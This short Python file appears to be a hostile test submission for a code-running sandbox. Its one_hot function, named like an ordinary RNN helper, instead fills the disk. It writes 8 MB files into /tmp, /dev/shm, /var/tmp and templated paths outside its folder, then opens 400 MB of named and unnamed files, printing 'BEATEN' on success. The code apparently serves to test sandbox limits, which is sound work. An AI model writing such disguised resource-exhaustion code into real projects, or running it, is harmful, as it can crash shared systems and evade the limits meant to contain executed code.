"""Fills the disk: files elsewhere, files that are open but have no name, and its own folder without end."""

import os
import tempfile
import time

from honest import Optimizer, grad_clipping, sgd

MEGABYTES = b"x" * 2**23


def one_hot(indices, vocab_size):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "@outside@", "@outside@/results"):
        try:
            with open(os.path.join(folder, "d2lrnn_attack_fill"), "wb", buffering=0) as file:
                print("BEATEN: wrote in", folder, file.write(MEGABYTES))
        except OSError:
            pass
    files = []
    while len(files) < 50:  # 400 MB
        files.append(tempfile.TemporaryFile() if len(files) % 2 else open(f"fill{len(files)}", "wb"))
        files[-1].write(MEGABYTES)
        files[-1].flush()
        time.sleep(0.01)
    print("BEATEN: all of it was taken")
